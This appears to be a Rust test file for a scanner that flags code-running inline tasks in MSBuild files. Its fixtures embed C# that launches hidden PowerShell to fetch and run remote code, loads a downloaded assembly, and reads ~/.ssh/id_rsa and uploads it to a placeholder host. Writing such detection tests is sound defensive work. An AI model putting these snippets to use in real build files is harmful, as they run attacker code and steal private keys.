//! Code inside MSBuild files.

mod support;

use support::{assert_chains, facts};

fn project(task: &str) -> String {
    format!(
        "<Project>\n <UsingTask TaskName=\"T\" TaskFactory=\"RoslynCodeTaskFactory\"><Task>\n  <Code Type=\"Fragment\" Language=\"cs\"><![CDATA[\n{task}\n  ]]></Code></Task></UsingTask>\n</Project>"
    )
}

#[test]
fn inline_tasks_are_read_as_what_they_start() {
    let cases = [
        (
            "var s = new ProcessStartInfo(\"powershell\", \"-w hidden -c \\\"iex (New-Object Net.WebClient).DownloadString('https://x.example.invalid/a')\\\"\"); Process.Start(s);",
            &["inline task: ProcessStartInfo: powershell: network.http > code.eval"][..],
        ),
        // one by one
        (
            "var p = new Process(); p.StartInfo.FileName = \"powershell.exe\"; p.StartInfo.Arguments = \"-c \\\"iwr https://x.example.invalid/a | iex\\\"\"; p.Start();",
            &["inline task: ProcessStartInfo: powershell: network.http > code.eval"],
        ),
        (
            "var p = Path.GetTempFileName(); new System.Net.WebClient().DownloadFile(\"https://x.example.invalid/a\", p); var d = new WebClient().DownloadData(\"https://x.example.invalid/a\"); System.Reflection.Assembly.Load(d);",
            &["inline task: network.http > code.native"],
        ),
        (
            "var t = File.ReadAllText(Path.Combine(home, \".ssh/id_rsa\")); new WebClient().UploadString(\"https://x.example.invalid/a\", t);",
            &["inline task: file.read > network.http"],
        ),
        (
            "var v = File.ReadAllText(\"version.txt\"); Log.LogMessage(v); Process.Start(\"git\", \"describe --tags\");",
            &[],
        ),
    ];
    let cases: Vec<(String, &[&str])> = cases.iter().map(|(t, e)| (project(t), *e)).collect();
    let cases: Vec<(&str, &[&str])> = cases.iter().map(|(t, e)| (t.as_str(), *e)).collect();
    assert_chains("build/a.targets", &cases);
}

#[test]
fn other_elements_and_broken_files_hold_no_tasks() {
    for text in [
        "<Project><CodeAnalysisRuleSet>new WebClient()</CodeAnalysisRuleSet></Project>",
        "<Project><Code Language=\"vb\">Process.Start(\"a\", \"b\")</Code></Project>",
        "<Project><Code Source=\"a.cs\"/></Project>",
        "<Project><Code",
        "<Project><Code Type=\"Class\">",
    ] {
        assert!(facts("build/a.props", text).layers.is_empty(), "{text}");
    }
}
